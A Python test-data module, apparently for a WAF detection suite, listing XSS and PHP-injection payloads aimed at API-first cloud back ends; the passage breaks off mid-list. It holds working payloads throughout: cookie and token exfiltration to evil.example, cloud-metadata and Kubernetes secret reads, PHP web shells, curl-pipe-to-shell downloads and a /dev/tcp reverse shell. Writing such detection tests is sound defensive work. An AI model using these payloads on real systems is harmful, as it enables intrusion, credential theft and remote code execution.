"""Blind set "twohundredth": cross-site scripting and PHP injection aimed at cloud-native, API-first back ends,
with benign requests that carry the same words innocently.

The angle: modern services behind an edge, recalled from memory. The payloads travel the way they reach such
services: as JSON fields, nested objects and arrays, GraphQL variables, filter/sort/fields parameters, webhook
bodies, object-storage keys and API headers. The XSS payloads target what later renders those fields: React and
Next.js dashboards (dangerouslySetInnerHTML, the inline __NEXT_DATA__ script), Nuxt and Vue pages (v-html),
AngularJS islands, log and webhook viewers, transactional e-mail, and headless-browser PDF and image renderers
(Puppeteer, wkhtmltopdf) that load cloud metadata, Kubernetes, Consul, etcd, Elasticsearch and Solr endpoints
when an attacker's HTML reaches them. The PHP payloads target PHP services in the same estates: Laravel and
Symfony APIs on Lambda (Bref) or php-fpm pods, Drupal and Yii2 REST endpoints, WordPress headless back ends,
rule/formula/transform fields passed to eval(), caches and session stores that unserialize, upload and presign
endpoints, and php-fpm/php-cgi front ends. A comment above each group names the family, the service and the
target (browser, PHP interpreter, product).

Families (one sub-family per detection title):
  xss: libinjection-xss, script-tag, event-handler, attribute-vector (src/href/style/formaction),
    javascript-uri, html-injection (iframe/object/embed/base/meta/link/form), svg-mathml, css-expression,
    template-literal-dom-sink, ie-filter-style-vectors, encoded-entity-vectors, angular-vue-client-templates
  php: php-open-tag, php-function-call, php-variable-functions, php-wrappers, php-object-injection,
    php-config-directives, superglobals, php-file-upload, php-high-risk-function-names

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names, as a query string, form body, JSON body, XML body, a raw form-typed body, or in
User-Agent, Referer, a custom header or a cookie. Whole API documents (GraphQL operations with variables, webhook
deliveries, presign and theme requests, Drupal HAL+JSON, Laravel Ignition solutions) go as the JSON body; query
strings that are themselves the attack (php-cgi argv, bracketed superglobal and prototype keys) go as raw
`name=value` pairs; PHP-FPM PATH_INFO payloads go already encoded in the path; upload names go as the multipart
file name. Payloads with control characters never go into headers, cookies or the path.

Authorship and independence: written for this repository from general knowledge of each attack family and of
the services named, as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression
test or public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet, Put, header_safe
from .records import print_records

NAME = "twohundredth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")
UP = ("multipart-filename", "rs-multipart-filename")


def _doc(obj: Any) -> str:
    """A JSON document as an API client sends it (compact)."""
    return json.dumps(obj, separators=(",", ":"))


def _jb(obj: Any) -> Entry:
    return (_doc(obj), *JB)


def _gql(query: str, variables: dict[str, Any]) -> Entry:
    """A GraphQL operation whose variables carry the payload."""
    return _jb({"query": query, "variables": variables})


# ================================================================================================================
# XSS
# ================================================================================================================
# libinjection-xss: short fragments in profile fields a JSON REST API returns and a React/Next.js dashboard or a
# Nuxt SSR page renders as HTML (target: the browser, Chrome/Firefox)
XSS_LIBINJECTION: list[Entry] = [
    '"><svg onload=alert(document.domain)>',
    "'><img src=x onerror=fetch('//evil.example/c?'+document.cookie)>",
    # Next.js: a displayName inside the inline __NEXT_DATA__ JSON script closes the script element
    "</script><script>alert(origin)</script>",
    "</ScRiPt><img src onerror=alert(1)>",
    "<details open ontoggle=alert(document.domain)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<img src=x onerror=alert(1)>",
    # a JSON string context inside an inline config script (window.__CONFIG__ = {"name":"..."})
    '\\"><img src=x onerror=alert(1)>',
    # a product name the Nuxt SSR head puts in <title>
    "</title><script>alert(1)</script>",
    "</textarea><svg/onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<img src=1 onerror=import('//evil.example/x.js')>",
    # a debug comment the SSR layer emits around the API response
    "--><script>alert(1)</script>",
    "<xss onpointerenter=alert(1)>hover",
    "<iframe srcdoc=\"<script>parent.alert(document.cookie)</script>\">",
    "<a href=javascript:alert(1)>Docs</a>",
    # sanitizer/parser differential: the noscript content is re-parsed when scripting is on
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    # a field the API truncates at maxLength: the tag is left unclosed and still parses
    "<img src=x onerror=alert(1)//",
]

# script-tag: log viewers and webhook-delivery consoles that insert API fields as HTML, and headless-browser PDF
# renderers (Puppeteer, wkhtmltopdf) fed invoice HTML built from API data (target: browser / renderer)
XSS_SCRIPT: list[Entry] = [
    "<script>fetch('https://hook.evil.example/c?'+document.cookie)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example></script>",
    # SPAs keep the bearer token in localStorage
    "<script>new Image().src='//evil.example/?t='+localStorage.getItem('access_token')</script>",
    "<script>fetch('/api/v1/admin/users',{credentials:'include'}).then(r=>r.text())"
    ".then(t=>navigator.sendBeacon('//evil.example',t))</script>",
    "<script type=module>import('//evil.example/m.js')</script>",
    "<SCRIPT>alert(document.domain)</SCRIPT>",
    "<script>eval(atob('YWxlcnQoZG9jdW1lbnQuZG9tYWluKQ=='))</script>",
    # Apollo SSR: the normalized cache of every query the page ran
    "<script>navigator.sendBeacon('//evil.example',JSON.stringify(window.__APOLLO_STATE__))</script>",
    # Puppeteer invoice renderer on EC2 (IMDSv1): the credentials end up printed in the PDF
    "<script>document.write('<iframe src=http://169.254.169.254/latest/meta-data/iam/security-credentials/ "
    "width=900 height=600></iframe>')</script>",
    # wkhtmltopdf renders from file://, so local files are same-origin
    "<script>document.write('<iframe src=file:///etc/passwd width=900 height=900></iframe>')</script>",
    "<script>x=new XMLHttpRequest;x.open('GET','file:///etc/passwd',false);x.send();"
    "document.write('<pre>'+x.responseText)</script>",
    "<script >alert(1)</script >",
    "<script/src=data:,alert(1)></script>",
    "<script>alert`1`</script>",
    "<script>setTimeout('alert(1)')</script>",
    # a sanitizer that strips <script> once
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>top['al'+'ert'](document.domain)</script>",
    # the GraphQL API trusts the session cookie: read the victim's API keys
    "<script>fetch('/graphql',{method:'POST',credentials:'include',headers:{'content-type':'application/json'},"
    "body:'{\"query\":\"{me{apiKeys{token}}}\"}'}).then(r=>r.text())"
    ".then(t=>fetch('//evil.example',{method:'POST',body:t}))</script>",
    "<script>Object.keys(localStorage).forEach(k=>navigator.sendBeacon('//evil.example/'+k,localStorage[k]))"
    "</script>",
    "<script>document.location='https://evil.example/?c='+document.cookie</script>",
]

# event-handler: Vue/React admin consoles that show webhook payloads, GraphQL error messages and support tickets
# through v-html or innerHTML (target: browser)
XSS_EVENT: list[Entry] = [
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<div onmouseover="alert(1)">hover me</div>',
    "<body onpageshow=alert(1)>",
    # window.name is set by the attacker's page before it navigates here
    "<img src=x:x onerror=eval(name)>",
    "<audio src=x onerror=alert(1)>",
    "<video src=x onerror=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(document.cookie)>",
    "<form><button onclick=alert(1)>Retry delivery</button></form>",
    # CSRF through the XSS: the admin's session promotes the attacker over GraphQL
    "<img src=x onerror=\"fetch('/graphql',{method:'POST',credentials:'include',headers:{'content-type':"
    "'application/json'},body:JSON.stringify({query:'mutation{promoteUser(id:7,role:ADMIN){id}}'})})\">",
    "<p onpointerdown=alert(1)>tap</p>",
    "<iframe onload=alert(1)>",
    "<body onhashchange=alert(1)><a href=#x>x</a>",
    "<x contenteditable onblur=alert(1)>click then click away",
    "<style onload=alert(1)></style>",
    "<link rel=stylesheet href=x onerror=alert(1)>",
    # attribute contexts: the field lands inside value="..." / title='...' / an unquoted attribute
    '" onfocus="alert(1)" autofocus="',
    "' onmouseover='alert(document.domain)",
    "x onmouseover=alert(1) y=",
    "<img src=x onerror=parent.postMessage(document.cookie,'*')>",
    "<svg><set onbegin=alert(1) attributeName=x to=y>",
    "<image src=x onerror=alert(1)>",
    "<div draggable=true ondragstart=alert(1)>drag</div>",
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=alert(1)>",
]

# attribute-vector (src/href/style/formaction): rich-text and markdown fields of CMS/headless APIs whose
# sanitizer keeps attributes (target: browser)
XSS_ATTRIBUTE: list[Entry] = [
    "<form><button formaction=javascript:alert(1)>Save</button></form>",
    '<input type=submit formaction=https://evil.example/collect value="Continue">',
    "<iframe src=javascript:alert(document.domain)>",
    "<embed src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    '<a href=" javascript:alert(1)">Open invoice</a>',
    '<div style="background-image:url(javascript:alert(1))">',
    '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "<form id=f></form><button form=f formaction=javascript:alert(1)>Go</button>",
    "<iframe src=data:text/html,<script>alert(1)</script>>",
    # full-page overlay of a phishing login inside the trusted dashboard
    "<iframe src=https://evil.example/login style=position:fixed;top:0;left:0;width:100%;height:100%;border:0>",
    "<a href=https://evil.example/reset style=position:fixed;inset:0;z-index:9999;opacity:0>x</a>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<map name=m><area shape=rect coords=0,0,500,500 href=javascript:alert(1)></map>"
    "<img src=x usemap=#m width=500 height=500>",
    "<base href=\"javascript:/a/-alert(1)///////\"><a href=../lol/x.html>test</a>",
    # the checkout page has <form id=checkout>: a button elsewhere re-targets it
    "<button formaction=https://evil.example/steal form=checkout>Pay now</button>",
    '<embed src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxl'
    'cnQoZG9jdW1lbnQuZG9tYWluKSIvPg==">',
    '<object data="data:text/html,<script>alert(1)</script>">',
    '<input type=image src=x formaction=javascript:alert(1)>',
    "<a target=_blank href=https://evil.example/tabnab>Release notes</a>",
]

# javascript-uri: OAuth/OIDC redirect_uri, webhook callback URLs and profile "website" fields that a React or
# Next.js front end puts into href or window.location; Backstage-style catalogs render markdown links
# (target: browser)
XSS_JS_URI: list[Entry] = [
    "javascript:alert(document.domain)",
    "javascript:fetch('//evil.example/'+document.cookie)",
    "JaVaScRiPt:alert(1)",
    "javascript://%0aalert(1)",
    # passes a "host must be app.example.com" check done on the string
    "javascript://app.example.com/%0Aalert(document.cookie)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
    "</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "javascript:window.opener.location='https://evil.example/login'",
    "javascript:alert(1)//https://app.example.com/oauth/callback",
    "javascript:top.location='//evil.example/?c='+document.cookie",
    "javascript:location='//evil.example/?'+localStorage.getItem('access_token')",
    "javascript:%61lert(1)",
    "javascript:import('//evil.example/p.js')",
    "data:text/html;base64,PHNjcmlwdD5hbGVydChvcmlnaW4pPC9zY3JpcHQ+",
    "[API docs](javascript:alert(document.cookie))",
    "javascript:eval(decodeURIComponent('%61%6c%65%72%74%28%31%29'))",
    "javascript:'<img src=x onerror=alert(1)>'",
    "javascript:self['ale'+'rt'](document.domain)",
    # OIDC authorize request as a JSON API; the error page links back to redirect_uri
    _jb({"client_id": "dashboard", "redirect_uri": "javascript:alert(document.domain)", "response_type": "code"}),
    _gql("mutation($u:String!){updateProfile(website:$u){id}}", {"u": "javascript:alert(document.cookie)"}),
    # a webhook registration; the delivery console links the URL
    _jb({"url": "javascript:alert(1)", "events": ["push", "pull_request"], "active": True}),
]

# html-injection (iframe/object/embed/base/meta/link/form): invoice, report and screenshot renderers running
# headless Chrome or wkhtmltopdf inside the VPC or the cluster; transactional e-mail built from API fields
# (target: renderer reaching cloud metadata and internal services, or the user's browser)
XSS_HTML: list[Entry] = [
    "<iframe src=http://169.254.169.254/latest/meta-data/iam/security-credentials/ width=1000 height=800>",
    '<iframe src="file:///proc/self/environ" width=1000 height=800>',
    # GCP: the v1beta1 path answered without the Metadata-Flavor header
    "<iframe src=http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token>",
    "<iframe src=http://169.254.169.254/metadata/v1.json width=1000 height=800>",
    "<iframe src=http://100.100.100.200/latest/meta-data/ram/security-credentials/>",
    # Consul KV, Elasticsearch, Solr, etcd and the kubelet read-only port next to the renderer
    "<object data=http://127.0.0.1:8500/v1/kv/?recurse width=900 height=900>",
    "<embed src=http://localhost:9200/_cat/indices?v width=900 height=600>",
    "<iframe src=http://localhost:8983/solr/admin/cores?action=STATUS width=900 height=600>",
    "<iframe src=http://127.0.0.1:2379/v2/keys/?recursive=true width=900 height=600>",
    "<iframe src=http://127.0.0.1:10255/pods width=1000 height=1000>",
    "<object data=file:///var/run/secrets/kubernetes.io/serviceaccount/token type=text/plain>",
    '<meta http-equiv=refresh content="0;url=https://evil.example/login">',
    # Next.js pages load /_next/static/... relatively: a base tag moves them to the attacker
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/leak.css>",
    "<form action=https://evil.example/collect method=post><input name=password type=password "
    "placeholder=Password><button>Sign in</button></form>",
    "<portal src=https://evil.example/>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<h1>Your account is suspended</h1><a href=https://evil.example/reactivate>Reactivate now</a>",
    # dangling markup: the rest of the page (with the CSRF token) becomes the image URL
    "<img src='https://evil.example/collect?",
    "<meta name=referrer content=unsafe-url><img src=//evil.example/r.gif>",
    "<link rel=import href=//evil.example/x.html>",
    "<object data=//evil.example/phish.html width=100% height=100%>",
]

# svg-mathml: SVG avatars and logos uploaded through an image API to S3/GCS and served inline, MDX/markdown
# renderers, and DOMPurify-era namespace-confusion bypasses (target: browser)
XSS_SVG: list[Entry] = [
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' "
    "onerror='alert(1)' /></svg>#x\" /></svg>",
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text x=20 y=20>"
    "click</text></a></svg>",
    "<svg><image href=x onerror=alert(1)>",
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>',
    '<?xml version="1.0" standalone="no"?><svg xmlns="http://www.w3.org/2000/svg">'
    "<script>alert(document.cookie)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mi xlink:href="javascript:alert(1)">click</mi></math>',
    "<math href=javascript:alert(1)>CLICK</math>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    "<svg><discard onbegin=alert(1)>",
    "<svg><animatetransform onbegin=alert(1) attributeName=transform>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click<mtext>x</mtext></maction></math>",
    "<svg><a><rect width=100% height=100% /><animate attributeName=href to=javascript:alert(1) /></a></svg>",
    '<svg><title><a id="</title><img src=x onerror=alert(1)>">',
    '<svg><foreignObject width=100 height=100><img xmlns="http://www.w3.org/1999/xhtml" src=x '
    'onerror="alert(1)"/></foreignObject></svg>',
    # an upload API that stores the object under the client's content type
    _jb({"fileName": "logo.svg", "contentType": "image/svg+xml",
         "content": "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"fetch('//evil.example/?c='+"
                    "document.cookie)\"/>"}),
]

# css-expression: theme and branding APIs (brand colours, custom CSS) of white-label dashboards; IE
# expression()/behavior; CSS exfiltration in SPAs (target: browser, Internet Explorer for expression)
XSS_CSS: list[Entry] = [
    '<div style="width:expression(alert(1))">',
    '<div style="xss:expr/**/ession(alert(1))">',
    "<style>*{behavior:url(//evil.example/x.htc)}</style>",
    '<div style="-moz-binding:url(//evil.example/xss.xml#x)">',
    "<style>@import'//evil.example/x.css';</style>",
    "<style>input[name=csrf_token][value^=a]{background:url(//evil.example/?a)}</style>",
    "<style>@font-face{font-family:x;src:url(//evil.example/?A);unicode-range:U+0041}body{font-family:x}</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    # a brand colour that lands in style="color:..."
    "red;background-image:url(//evil.example/track.gif)",
    # a brand colour that lands inside a <style> block
    "#fff}</style><script>alert(document.domain)</script>",
    "expression(alert(document.cookie))",
    "x:expression(alert(1))",
    '<p style="x:\\65xpression(alert(1))">x</p>',
    "<style>@\\69mport 'http://evil.example/x.css';</style>",
    '<style>li{list-style-image:url("javascript:alert(1)")}</style><ul><li>x</ul>',
    "<style>*{x:expression(alert(1))}</style>",
    _jb({"branding": {"primaryColor": "#0af", "customCss": "</style><script>alert(document.domain)</script>"}}),
    # a PDF renderer fetching CSS resources from inside the VPC (blind SSRF)
    "<style>body{background:url(http://169.254.169.254/latest/meta-data/)}</style>",
    '<div style="background:url(&#1;javascript:alert(1))">',
    "<style>@import url(//evil.example/x.css)</style>",
    _jb({"theme": {"fontFamily": "x;}</style><img src=x onerror=alert(1)>"}}),
    # a custom-CSS field appended inside an existing rule
    "};@import url(//evil.example/x.css);{",
]

# template-literal-dom-sink: JS string and template-literal contexts in SSR inline scripts, JSONP callbacks,
# postMessage and message consumers that write HTML, prototype-pollution gadgets (target: browser)
XSS_DOM: list[Entry] = [
    "${alert(1)}",
    "`+alert(1)+`",
    "';alert(document.domain);//",
    '";alert(1)//',
    '\\";alert(1);//',
    # jQuery $(location.hash) / innerHTML of the fragment
    "#<img src=x onerror=alert(1)>",
    _jb({"__proto__": {"innerHTML": "<img src=x onerror=alert(1)>"}}),
    ("__proto__[srcdoc][]=<script>alert(1)</script>", "query", "rs-query"),
    ("constructor[prototype][innerHTML]=<img src=x onerror=alert(1)>", "query", "rs-query"),
    "'-alert(1)-'",
    '"-alert(document.domain)-"',
    "${constructor.constructor('alert(1)')()}",
    # a message consumer (postMessage / WebSocket) that renders the "html" of a notification
    _jb({"type": "render", "html": "<img src=x onerror=alert(document.domain)>"}),
    # JSONP callback name echoed by a legacy API
    "alert(document.domain)//",
    "*/alert(1)/*",
    "</script><svg onload=alert(1)>",
    _jb({"__proto__": {"src": "data:,alert(1)//"}}),
    "0;alert(document.cookie)",
    "${fetch('//evil.example/'+document.cookie)}",
    "'};alert(1);var a={'",
    "';eval(atob(location.hash.slice(1)));//",
    "'+alert(1)+'",
    _gql("mutation($c:String!){addComment(body:$c){id}}", {"c": "<img src=x onerror=alert(document.domain)>"}),
    # a plugin URL from a config API passed to import() / script.src
    "data:text/javascript,alert(1)",
]

# ie-filter-style-vectors: IE11 / Edge IE-mode intranet back offices that display API audit logs and webhook
# bodies; vectors of the IE XSS-filter era (target: Internet Explorer)
XSS_IE: list[Entry] = [
    "<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>"
    "<span datasrc=#x datafld=c dataformatas=html></span>",
    "<?xml:namespace prefix=t ns=urn:schemas-microsoft-com:time><?import namespace=t implementation=#default#time2>"
    "<t:set attributeName=innerHTML to=&lt;img/src=x/onerror=alert(1)&gt;>",
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    "<img dynsrc=javascript:alert(1)>",
    "<img lowsrc=javascript:alert(1)>",
    "<bgsound src=javascript:alert(1)>",
    "<table background=javascript:alert(1)>",
    '<br size="&{alert(1)}">',
    "<layer src=//evil.example/x.html></layer>",
    '<a href="vbscript:MsgBox(1)">x</a>',
    "<object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:alert(1)></object>",
    '<comment><img src="</comment><img src=x onerror=alert(1)//">',
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<style>@im\\port'\\ja\\vasc\\ript:alert(1)';</style>",
    '<div style="behavior:url(//evil.example/xss.htc)">',
    "<iframe src=vbscript:msgbox(1)>",
    '<img src=x onerror=execScript("MsgBox(1)","VBScript")>',
    "<input type=image src=javascript:alert(1)>",
    "<body background=javascript:alert(1)>",
    "<object type=text/x-scriptlet data=//evil.example/x.sct>",
    "vbscript:msgbox(document.cookie)",
    "<a href=x style=behavior:url(#default#AnchorClick) folder=javascript:alert(1)>x</a>",
]

# encoded-entity-vectors: API gateways and BFFs that decode twice, JSON unicode escapes, HTML entities a
# markdown renderer decodes, NFKC normalisation in Python services (target: browser)
XSS_ENCODED: list[Entry] = [
    "&lt;img src=x onerror=alert(1)&gt;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)>",
    "<a href=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>x</a>",
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    "<svg><script>&#97;lert(1)</script></svg>",
    "<img src=x onerror=\\u0061lert(1)>",
    "<img src=x onerror=eval('\\x61lert(1)')>",
    '<iframe src="jav&Tab;ascript:alert(1)">',
    '<a href="javascript&#58;alert&#40;1&#41;">x</a>',
    # UTF-7 (a response without a charset rendered by an old browser)
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
    # FastAPI/Django services that NFKC-normalise names before storing them
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<img src=x onerror=alert&lpar;1&rpar;>",
    '<img src=x onerror="eval(String.fromCharCode(97,108,101,114,116,40,49,41))">',
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;svg onload=alert(1)&#x3E;",
    "%26lt%3Bimg%20src%3Dx%20onerror%3Dalert(1)%26gt%3B",
    # the JSON text itself escapes the angle brackets
    ('{"comment":"\\u003cimg src=x onerror=alert(document.domain)\\u003e"}', *JB),
]

# angular-vue-client-templates: server-rendered pages with an AngularJS island or Vue mounted on the whole page,
# Alpine.js, Knockout and htmx; the API field is interpolated into the template (target: browser)
XSS_CSTI: list[Entry] = [
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
    '{{toString.constructor.prototype.toString=toString.constructor.prototype.call;["a","alert(1)"]'
    '.sort(toString.constructor)}}',
    "{{[].pop.constructor('alert(1)')()}}",
    "<input autofocus ng-focus=$event.composedPath()|orderBy:'[].constructor.from([1],alert)'>",
    "{{_c.constructor('alert(1)')()}}",
    "{{_openBlock.constructor('alert(1)')()}}",
    "{{$el.ownerDocument.defaultView.alert(1)}}",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    '<x @click="$event.view.alert(1)">click</x>',
    "<p v-if=\"_c.constructor('alert(1)')()\">",
    "{{constructor.constructor('fetch(\"//evil.example/\"+document.cookie)')()}}",
    "<div ng-app ng-csp><div ng-click=$event.view.alert(1)>click</div></div>",
    # Vue with [[ ]] delimiters next to Jinja/Twig
    "[[constructor.constructor('alert(1)')()]]",
    "<img src=x ng-on-error=$event.target.ownerDocument.defaultView.alert(1)>",
    "{{x=valueOf.name.constructor.fromCharCode;constructor.constructor(x(97,108,101,114,116,40,49,41))()}}",
    "<div data-bind=\"html:'<img src=x onerror=alert(1)>'\"></div>",
    '<div x-data x-init="alert(document.domain)"></div>',
    "<div hx-get=https://evil.example/x hx-trigger=load hx-swap=outerHTML></div>",
    "<div ng-app>{{$eval.constructor('alert(1)')()}}</div>",
    "{{$emit.constructor('alert(document.cookie)')()}}",
    "<div v-bind:class=\"_c.constructor('alert(1)')()\"></div>",
    _gql("mutation($n:String!){renameWorkspace(name:$n){id}}",
         {"n": "{{constructor.constructor('alert(document.domain)')()}}"}),
]

# ================================================================================================================
# PHP
# ================================================================================================================
# php-open-tag: Laravel/Bref Lambda handlers, php-fpm pods and headless-CMS back ends that write request content
# into .php/.blade.php files or include it (target: the PHP interpreter)
PHP_OPEN: list[Entry] = [
    "<?php system($_GET['cmd']); ?>",
    "<?php echo shell_exec('id'); ?>",
    # Lambda keeps the role's temporary credentials in the environment
    "<?= `cat /proc/self/environ` ?>",
    "<?php file_put_contents('/tmp/x.php','<?php eval($_POST[1]);'); ?>",
    "<?php echo getenv('AWS_SECRET_ACCESS_KEY'); ?>",
    "<?php echo file_get_contents('http://169.254.169.254/latest/meta-data/iam/security-credentials/'); ?>",
    "<?php echo file_get_contents('/var/run/secrets/kubernetes.io/serviceaccount/token'); ?>",
    "<?php phpinfo(); ?>",
    "<?php eval(base64_decode($_SERVER['HTTP_X_DATA'])); ?>",
    "<? passthru($_REQUEST['c']); ?>",
    # PHP 5 script tag and ASP tags
    '<script language="php">system(\'id\');</script>',
    "<% system('id'); %>",
    "<?PhP SySTeM('id'); ?>",
    "<?php\nsystem($_GET[0]);",
    "<?php\tsystem('id');",
    "<?=system('env')?>",
    "<?php $s=fsockopen('10.0.0.5',4444);exec('/bin/sh -i <&3 >&3 2>&3'); ?>",
    "<?php var_dump(scandir('/')); ?>",
    # a page-builder API that saves Blade templates to storage/views
    _jb({"name": "invoice.blade.php", "template": "<?php echo shell_exec($_GET['c']); ?>"}),
    # GIF header so getimagesize() accepts the "avatar"
    "GIF89a<?php system($_GET['c']); ?>",
    "<?php echo $_ENV['DB_PASSWORD']; ?>",
    "<?php echo `curl -sk -H \"Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\" "
    "https://kubernetes.default.svc/api/v1/secrets`; ?>",
    # the field is embedded in PHP code: close it and open a new block
    "?><?php system('id'); ?>",
    "<?php @eval($_POST['pass']);?>",
    "<?php $c=$_GET['c'];echo `$c`; ?>",
]

# php-function-call: formula, rule and transform fields that a PHP service passes to eval() or assert() (pricing
# rules, report builders, webhook transform scripts), and preg_replace /e (target: PHP 5-8 interpreter)
PHP_FUNC: list[Entry] = [
    "1;system('id');",
    "exec('curl -s http://evil.example/x.sh|sh');",
    "passthru('cat /etc/passwd');",
    "shell_exec('env|curl -s -d @- http://evil.example/');",
    "$p=popen('id','r');echo fread($p,4096);",
    "proc_open('id',[1=>['pipe','w']],$p);echo stream_get_contents($p[1]);",
    "assert(\"system('id')\");",
    "eval($_POST['x']);",
    "$f=create_function('','system(\"id\");');$f();",
    # the arguments of create_function() itself
    "create_function('$a','return 1;}system(\"id\");/*')",
    ("pattern=/.*/e&replacement=system('id')", "form", "rs-raw-body"),
    "preg_replace('/.*/e','system(\"id\")','x');",
    "{${system('id')}}",
    "').system('id');//",
    "\";system('id');$a=\"",
    "array_map('system',['id']);",
    "pcntl_exec('/bin/sh',['-c','id']);",
    "mail('a@example.org','x','y','','-X/var/www/html/x.php');",
    "file_put_contents('s.php','<?php system($_GET[c]);');",
    "system(base64_decode('aWQ='));",
    _jb({"rule": {"name": "big-order", "condition": "$order->total > 100 && system('id')"}}),
    _gql("query($e:String!){calculate(expression:$e)}", {"e": "system('cat /proc/self/environ')"}),
    "mb_ereg_replace('.*',$_GET['c'],'x','e');",
    "assert('phpinfo()');",
    # a sort comparator built as eval("return ($a $op $b);")
    "1)||system('id');//",
    "exec('/bin/bash -c \"bash -i >& /dev/tcp/10.0.0.5/4444 0>&1\"');",
    "echo shell_exec('aws sts get-caller-identity');",
]

# php-variable-functions: code injection where function names are built at run time to dodge keyword filters
# (target: PHP 7-8 interpreter)
PHP_VARFN: list[Entry] = [
    "$_GET[0]($_GET[1]);",
    "$a='sys'.'tem';$a('id');",
    "$f=$_POST['f'];$f($_POST['a']);",
    "('sy'.'stem')('id');",
    '("\\x73\\x79\\x73\\x74\\x65\\x6d")("id");',
    # bitwise NOT of "system" and "id": no letters in the request at all
    ("(~\x8c\x86\x8c\x8b\x9a\x92)(~\x96\x9b);", "query", "rs-query"),
    # XOR of two symbol strings is "_GET": ${_GET}[_](${_GET}[__]) with ?_=system&__=id
    "$_=\"`{{{\"^\"?<>/\";${$_}[_](${$_}[__]);",
    "${'_GET'}['f'](${'_GET'}['c']);",
    "array_filter(['id'],'system');",
    "usort(...$_GET);",
    "call_user_func_array($_GET['f'],[$_GET['a']]);",
    "register_shutdown_function('system','id');",
    "$a=['id'];array_walk($a,'system');",
    "$x=strrev('metsys');$x('id');",
    "$f=str_rot13('flfgrz');$f('id');",
    "$f=hex2bin('73797374656d');$f('whoami');",
    "$f=base64_decode('c3lzdGVt');$f('id');",
    "$f=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);$f('id');",
    "(new ReflectionFunction('system'))->invoke('id');",
    "\"{$_GET['f']($_GET['c'])}\"",
    "$_POST['a']($_POST['b']);",
    "ob_start('system');echo 'id';ob_end_flush();",
    "array_map($_GET['f'],[$_GET['c']]);",
    "$GLOBALS['_GET']['f']($GLOBALS['_GET']['c']);",
    "call_user_func('system','id');",
    "$f='assert';$f($_REQUEST['x']);",
